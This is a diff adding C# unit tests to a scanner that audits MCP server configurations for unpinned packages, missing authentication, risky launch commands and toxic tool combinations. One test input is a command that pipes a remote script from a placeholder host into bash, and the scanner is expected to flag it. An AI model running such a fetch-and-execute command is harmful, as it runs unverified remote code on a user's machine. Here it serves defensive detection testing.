@@ -189,6 +189,32 @@ public sealed class CheckTests
         if (toxic) Assert.Equal(Confidence.Medium, found[0].Confidence);
     }
 
+    // Of a server that only its name or address tells of, all three are one guess. Of a package that is known, they are not.
+    [Theory]
+    [InlineData("""{"url":"https://mcp.linear.example/mcp"}""", "", false)]
+    [InlineData("""{"url":"https://mcp.linear.example/mcp"}""", ""","fetch":{"command":"uvx","args":["mcp-server-fetch==1.0.0"]}""", true)]
+    [InlineData("""{"command":"/opt/linear"}""", "", false)]
+    [InlineData("""{"command":"npx","args":["-y","gmail-mcp@1.0.0"]}""", "", true)]
+    public async Task OneServerAlone_IsAToxicCombinationByItsPackage_NotByItsName(string linear, string other, bool toxic)
+    {
+        using var planted = new Planted();
+        planted.Put("home/.cursor/mcp.json", $$$"""{"mcpServers":{"linear":{{{linear}}}{{{other}}}}}""");
+        Assert.Equal(toxic, (await planted.ScanAsync()).Findings.Any(finding => finding.Rule == FindingRules.ToxicCombination));
+    }
+
+    [Theory]
+    [InlineData("bearer_token = \"lin_oauth_9vLq2Zk8Xm4Rt7Yb3Nc6Hd1Jf5Gs0Pw2\"", true)]
+    [InlineData("bearer_token_env_var = \"TOKEN\"", true)]
+    [InlineData("http_headers = { X-Team = \"a\" }", true)]
+    [InlineData("env_http_headers = { Authorization = \"TOKEN\" }", true)]
+    [InlineData("startup_timeout_sec = 20", false)]
+    public async Task SignInSettingsOfCodex_AreKnown(string setting, bool isSignIn)
+    {
+        using var planted = new Planted();
+        planted.Put("home/.codex/config.toml", $"[mcp_servers.one]\nurl = \"https://mcp.example/mcp\"\n{setting}\n");
+        Assert.Equal(!isSignIn, (await planted.ScanAsync()).Findings.Any(finding => finding.Rule == FindingRules.NoAuthentication));
+    }
+
     [Fact]
     public async Task FileRights_AreJudged()
     {
@@ -206,6 +232,77 @@ public sealed class CheckTests
         File.SetUnixFileMode(script, (UnixFileMode)0b110_100_100);
         File.SetUnixFileMode(file, (UnixFileMode)0b110_000_000);
         Assert.Equal(["GHS4001"], (await planted.ScanAsync()).Findings.Select(finding => finding.Rule.Id));
+    }
+
+    [Theory]
+    [InlineData("npx -y some-server", "npm some-server, not pinned", "GHS2001 GHS2013")]
+    [InlineData("npx -y some-server@1.2.3 --dir '/srv/my files'", "npm some-server 1.2.3, pinned", "GHS2013")]
+    [InlineData("FEED=internal uvx mcp-thing", "pypi mcp-thing, not pinned", "GHS2001 GHS2013")]
+    [InlineData("cd /srv && npx -y some-server", "npm some-server, not pinned", "GHS2001 GHS2003 GHS2013")]
+    [InlineData("node /opt/s.js | tee /srv/log", "script", "GHS2003 GHS2013")]
+    [InlineData("curl -s https://x.example/i.sh | bash", "program", "GHS2002 GHS2003 GHS2013")]
+    [InlineData("sudo node \"/opt/s.js\"", "script", "GHS2004 GHS2013")]
+    [InlineData("C:\\Program Files\\nodejs\\npx.cmd -y some-server", "npm some-server, not pinned", "GHS2001 GHS2013")]
+    [InlineData("C:\\Program Files\\My Server\\server.exe", "program", "")]
+    [InlineData("C:\\Program Files\\My Server\\server", "program", "")]
+    [InlineData("/opt/my tools/server", "program", "")]
+    [InlineData("/opt/nowhere/server --level info", "program", "GHS2013")]
+    public async Task ACommandThatHoldsItsArguments_IsJudgedByItsWords(string command, string source, string ids)
+    {
+        var report = await Planted.OneAsync(JsonSerializer.Serialize(new { command }));
+        Assert.Equal(source, ReportText.Of(report.Servers[0].Source));
+        Assert.Equal(ids, string.Join(' ', report.Findings.Select(finding => finding.Rule.Id).Distinct().Order()));
+    }
+
+    // What is started behind programs that start others.
+    [Theory]
+    [InlineData("npm @scope/tool, not pinned", "node", "C:\\Users\\ada\\AppData\\npm\\node_modules\\npm\\bin\\npx-cli.js", "-y", "@scope/tool")]
+    [InlineData("npm @scope/tool 1.0.0, pinned", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "exec", "--", "@scope/tool@1.0.0")]
+    [InlineData("npm @scope/jira 1.0.0, pinned", "npx", "envmcp", "npx", "-y", "@scope/jira@1.0.0")]
+    [InlineData("pypi mcp-thing, not pinned", "op", "run", "--env-file=.env", "--", "uvx", "mcp-thing")]
+    [InlineData("npm @scope/tool, not pinned", "npx", "-y", "dotenv-cli", "-e", ".env", "--", "npx", "@scope/tool")]
+    [InlineData("npm @scope/tool, not pinned", "cmd", "/c", "npx -y @scope/tool")]
+    [InlineData("npm @scope/tool, not pinned", "C:\\Windows\\System32\\cmd.exe", "/d", "/c", "npx.cmd", "-y", "@scope/tool")]
+    [InlineData("npm @scope/tool, not pinned", "powershell", "-NoProfile", "-Command", "npx", "-y", "@scope/tool")]
+    [InlineData("pypi mcp-thing, not pinned", "bash", "-lc", "cd /srv && LEVEL=info uvx mcp-thing")]
+    [InlineData("pypi mcp-thing, not pinned", "uvx", "mcp-proxy==1.0.0", "--port", "1", "uvx", "mcp-thing")]
+    [InlineData("npm @scope/tool, not pinned", "deno", "run", "-A", "npm:@scope/tool")]
+    [InlineData("npm my-server 1.0.0, pinned", "npx", "my-server@1.0.0", "--with", "npx")]
+    [InlineData("pypi mcp-proxy 1.0.0, pinned", "uvx", "mcp-proxy==1.0.0", "https://x.example/mcp")]
+    public void TheStartedServer_IsFoundBehindItsRunners(string source, params string[] command) =>
+        Assert.Equal(source, ReportText.Of(CommandOrigin.Of(command)));
+
+    [Fact]
+    public void ProgramsInFrontWithoutEnd_AreNotFollowed() =>
+        Assert.Equal(OriginKind.Unknown, CommandOrigin.Of([.. Enumerable.Repeat("env", 100_000), "npx", "x"]).Kind);
+
+    [Fact]
+    public async Task ARunnerThatIsAPackage_IsJudgedBesideTheServer()
+    {
+        var report = await Planted.OneAsync("""{"command":"npx","args":["envmcp","npx","-y","@scope/jira"]}""");
+        Assert.Equal(["@scope/jira has no version", "envmcp has no version"],
+            report.Findings.Where(finding => finding.Rule.Id == "GHS2001").Select(finding => finding.Message).Order());
+    }
+
+    [Theory]
+    [InlineData("""{"transport":{"type":"http","url":"http://tickets.example:8002/mcp","headers":{"x-token":"${TOKEN}"}}}""", "http", "GHS3001")]
+    [InlineData("""{"transport":{"type":"stdio","command":"npx","args":["-y","some-server"]}}""", "stdio", "GHS2001")]
+    [InlineData("null", "unknown", "")]
+    public async Task NestedTransport_IsRead_AndAnEntryThatIsNullIsNamed(string server, string transport, string ids)
+    {
+        var report = await Planted.OneAsync(server);
+        var one = Assert.Single(report.Servers);
+        Assert.Equal(("one", transport), (one.Name, one.Transport));
+        Assert.Equal(ids, string.Join(' ', report.Findings.Select(finding => finding.Rule.Id).Order()));
+    }
+
+    [Fact]
+    public async Task AProgramWithASpaceInItsName_IsAProgram()
+    {
+        using var planted = new Planted();
+        var program = planted.Put("home/my server", "");
+        planted.Put("home/.cursor/mcp.json", JsonSerializer.Serialize(new { mcpServers = new { one = new { command = program } } }));
+        Assert.False((await planted.ScanAsync()).Servers[0].IsOneText);
     }
 
     private static string Split(string line)
